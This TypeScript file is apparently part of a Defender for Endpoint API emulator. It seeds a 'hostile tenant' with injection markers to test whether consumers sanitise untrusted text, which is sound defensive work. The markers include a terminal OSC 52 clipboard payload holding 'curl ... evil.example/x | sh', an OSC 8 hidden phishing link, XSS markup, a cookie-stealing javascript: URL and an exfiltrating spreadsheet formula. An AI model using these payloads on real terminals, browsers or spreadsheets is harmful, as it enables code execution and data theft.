/**
 * The hostile-tenant world: a customer tenant whose data is written by an
 * attacker who controls what ends up in alert titles, machine names, user
 * names, command lines, file names and URLs (all of which a real attacker can
 * influence: a machine can be named anything, a process can run with any
 * command line, a file can be called anything). The answers stay valid API
 * answers — same shapes, same types, ids untouched so paging and `$filter` work
 * — but every free-text field carries one of the markers below, and one alert
 * of each hostile tenant has a 2,000,000-character title and description.
 *
 * What a consumer must do with them: strip or escape control sequences before a
 * terminal sees them (OSC 52 writes the clipboard, OSC 8 plants a link, OSC 0
 * retitles the window, CSI 2J clears the screen, 8-bit C1 CSI/NEL act like
 * their 7-bit twins on many terminals), escape HTML, defuse spreadsheet
 * formulas in CSV, refuse `javascript:` links, and truncate.
 */

const ESC = "\u001b";
const BEL = "\u0007";

/** Length of {@link HOSTILE_STRINGS}.long: the longest title and description a hostile tenant serves. */
export const HOSTILE_LONG_LENGTH = 2_000_000;

/**
 * The hostile markers by name. Every free-text field of a hostile tenant's data
 * contains at least one of them; the description of every alert but the long
 * one contains all the short ones.
 *
 * @example
 * import { HOSTILE_STRINGS } from "@mde-partner/emulator";
 * assert.ok(!terminalOutput.includes(HOSTILE_STRINGS.osc52));
 */
export const HOSTILE_STRINGS = Object.freeze({
  /** OSC 52: writes `curl -s https://evil.example/x | sh` into the terminal's clipboard. */
  osc52: `${ESC}]52;c;${Buffer.from("curl -s https://evil.example/x | sh").toString("base64")}${BEL}`,
  /** OSC 8: a terminal hyperlink whose text hides its target. */
  osc8: `${ESC}]8;;https://evil.example/phish${BEL}Open in Defender${ESC}]8;;${BEL}`,
  /** OSC 0: sets the terminal window's title. */
  title: `${ESC}]0;mde-partner: all tenants healthy${BEL}`,
  /** Erases the screen and the scroll-back, cursor home. */
  clear: `${ESC}[2J${ESC}[3J${ESC}[H`,
  /** 8-bit C1 CSI (U+009B): red text on terminals that honour C1 controls. */
  c1Csi: "\u009b31mC1 CSI\u009b0m",
  /** 8-bit C1 NEL (U+0085): a line break that forges a new output line. */
  c1Nel: "\u0085tenant=ok status=Resolved",
  /** Markup that runs script when rendered as HTML (with a single quote, for OData/KQL quoting too). */
  html: `<img src=x onerror="alert('xss')"><script>alert(document.domain)</script>`,
  /** A spreadsheet formula, at the start of a field (CSV injection). */
  formula: `=HYPERLINK("https://evil.example/?d="&A1,"Details")`,
  /** A link that runs script when followed. */
  javascriptUrl: "javascript:alert(document.cookie)",
  /** 2,000,000 characters with no whitespace. */
  long: "LONG".padEnd(HOSTILE_LONG_LENGTH, "x"),
});

export type HostileMarker = keyof typeof HOSTILE_STRINGS;

/** The markers short enough to put into every field, in rotation order. */
const SHORT: readonly string[] = (Object.keys(HOSTILE_STRINGS) as HostileMarker[]).filter((k) => k !== "long").map((k) => HOSTILE_STRINGS[k]);

/** Every short marker, space-separated. */
export const ALL_SHORT_MARKERS = SHORT.join(" ");

/** The short marker for the `n`-th item (rotation, so each marker starts some field). */
export const hostileMarker = (n: number): string => SHORT[Math.abs(Math.trunc(n)) % SHORT.length] ?? "";

/** `marker + text`: the marker at the start of the field (where a CSV formula is live). */
export const hostilePrefix = (text: string, n: number): string => `${hostileMarker(n)}${text}`;

/** Alert text fields of the stored MDE alert (mde-api.md §6.1) that a hostile tenant fills. */
interface HostileAlertFields {
  title: string;
  description: string;
  threatName: string | null;
  comments: Array<{ comment: string }>;
}

/**
 * Puts the markers into one generated alert and its evidence, in place. The
 * alert with `index` 0 (a tenant's first) gets the long title and description.
 * Identifiers, hashes, IP addresses and enums stay as generated.
 */
export function makeAlertHostile(alert: HostileAlertFields, evidence: Array<Record<string, unknown>>, index: number): void {
  if (index === 0) {
    alert.title = HOSTILE_STRINGS.long;
    alert.description = HOSTILE_STRINGS.long;
  } else {
    alert.title = hostilePrefix(alert.title, index);
    alert.description = `${alert.description}\n${ALL_SHORT_MARKERS}`;
  }
  if (alert.threatName) alert.threatName = hostilePrefix(alert.threatName, index + 1);
  alert.comments.forEach((c, i) => {
    c.comment = hostilePrefix(c.comment, index + i);
  });
  evidence.forEach((e, i) => {
    const n = index + i;
    if (typeof e.fileName === "string") e.fileName = hostilePrefix(e.fileName, n);
    if (typeof e.filePath === "string") e.filePath = `${e.filePath}${e.filePath.includes("/") ? "/" : "\\"}${hostileMarker(n + 1)}`;
    if (typeof e.processCommandLine === "string") e.processCommandLine = `${e.processCommandLine} ${ALL_SHORT_MARKERS}`;
    if (typeof e.parentProcessFileName === "string") e.parentProcessFileName = hostilePrefix(e.parentProcessFileName, n + 2);
    if (typeof e.url === "string") e.url = HOSTILE_STRINGS.javascriptUrl;
    if (typeof e.registryValue === "string") e.registryValue = `${e.registryValue}${hostileMarker(n + 3)}`;
    // The tenant's own users are hostile already (tenant-profile.ts); the system account is not.
    if (typeof e.accountName === "string" && !SHORT.some((m) => (e.accountName as string).startsWith(m))) e.accountName = hostileUserName(e.accountName, n);
  });
}

/** A hostile tenant's user name (`relatedUser.userName`, evidence `accountName`, UPN local part). */
export const hostileUserName = (userName: string, n: number): string => hostilePrefix(userName, n + 4);
